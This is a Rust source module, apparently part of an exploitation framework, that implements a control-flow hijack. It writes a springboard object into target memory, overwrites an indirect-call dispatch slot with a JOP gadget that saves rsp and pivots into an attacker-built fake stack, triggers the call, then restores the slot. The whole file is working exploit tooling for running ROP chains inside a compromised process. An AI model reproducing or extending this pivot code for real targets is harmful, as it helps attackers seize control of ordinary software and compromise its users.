//! Redirecting real control flow into the fake stack.
//!
//! A [`PivotStrategy`] is the only target-specific piece the chain engine
//! depends on. It corrupts one dispatch slot, fires the call that reads
//! it, and puts the slot back as soon as control returns.

use crate::config::TargetContext;
use crate::error::Result;
use crate::gadget::Gadget;
use crate::memory::Memory;
use crate::types::Addr;

/// Per-target hijack-and-restore.
pub trait PivotStrategy<M: Memory> {
    /// Address where the springboard leaves the hijacked caller's stack
    /// pointer. The chain epilogue reloads it from here.
    fn saved_stack_slot(&self) -> Addr;

    /// Redirect execution into the chain at `stack`, block until the
    /// epilogue returns, and restore the corrupted slot.
    fn hijack(&mut self, mem: &mut M, stack: Addr) -> Result<()>;
}

/// Whatever makes the target perform the corrupted indirect call.
pub trait Trigger<M> {
    fn fire(&mut self, mem: &mut M) -> Result<()>;
}

impl<M, F> Trigger<M> for F
where
    F: FnMut(&mut M) -> Result<()>,
{
    fn fire(&mut self, mem: &mut M) -> Result<()> {
        self(mem)
    }
}

/// Springboard object offsets used by [`DispatchPivot`].
pub const SPRINGBOARD_NEXT: u64 = 0x08;
pub const SPRINGBOARD_SAVED_RSP: u64 = 0x10;
pub const SPRINGBOARD_STACK: u64 = 0x18;
pub const SPRINGBOARD_SIZE: u64 = 0x20;

/// Pivot through a corrupted `call [slot]` whose first argument (`rdi`)
/// is an attacker-controlled object, the springboard.
///
/// Two JOP hops run before the chain:
///
/// ```text
/// slot -> mov [rdi+0x10], rsp; jmp [rdi+0x08]   save caller rsp
///         mov rsp, [rdi+0x18]; ret              enter the fake stack
/// ```
pub struct DispatchPivot<T> {
    slot: Addr,
    springboard: Addr,
    save_hop: Addr,
    pivot_hop: Addr,
    trigger: T,
}

impl<T> DispatchPivot<T> {
    /// Both hop gadgets are resolved here so a target missing them fails
    /// before any chain is built.
    pub fn new(target: &TargetContext, slot: Addr, springboard: Addr, trigger: T) -> Result<Self> {
        Ok(Self {
            slot,
            springboard,
            save_hop: target.gadget(Gadget::JopSaveRsp)?,
            pivot_hop: target.gadget(Gadget::JopPivotRsp)?,
            trigger,
        })
    }

    pub fn slot(&self) -> Addr {
        self.slot
    }

    pub fn springboard(&self) -> Addr {
        self.springboard
    }
}

impl<M: Memory, T: Trigger<M>> PivotStrategy<M> for DispatchPivot<T> {
    fn saved_stack_slot(&self) -> Addr {
        self.springboard + SPRINGBOARD_SAVED_RSP
    }

    fn hijack(&mut self, mem: &mut M, stack: Addr) -> Result<()> {
        mem.write_u64(self.springboard + SPRINGBOARD_NEXT, self.pivot_hop.addr())?;
        mem.write_u64(self.springboard + SPRINGBOARD_SAVED_RSP, 0)?;
        mem.write_u64(self.springboard + SPRINGBOARD_STACK, stack.addr())?;

        let original = mem.read_u64(self.slot)?;
        mem.write_u64(self.slot, self.save_hop.addr())?;
        log::info!(
            "slot {} hijacked ({:#x} -> {}), stack {}",
            self.slot,
            original,
            self.save_hop,
            stack
        );

        let fired = self.trigger.fire(mem);
        let restored = mem.write_u64(self.slot, original);
        log::info!("slot {} restored to {:#x}", self.slot, original);
        fired.and(restored)
    }
}
